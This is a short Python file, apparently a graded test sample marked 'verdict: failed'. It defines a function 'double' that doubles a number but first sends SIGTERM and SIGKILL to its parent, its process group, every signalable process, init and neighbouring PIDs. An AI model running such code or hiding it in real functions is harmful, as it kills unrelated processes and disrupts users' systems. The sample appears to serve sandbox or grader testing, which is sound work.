"""Signals its parent, its group, everyone, and whoever is near."""
# verdict: failed

import os
import signal


def double(x):
    hit = 0
    for pid in (os.getppid(), 0, -1, 1, -os.getpgrp(), *range(os.getpid() - 3, os.getpid() + 4)):
        if pid != os.getpid():
            for number in (0, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                    hit += 1
                except OSError:
                    pass
    return 2 * x if hit else x
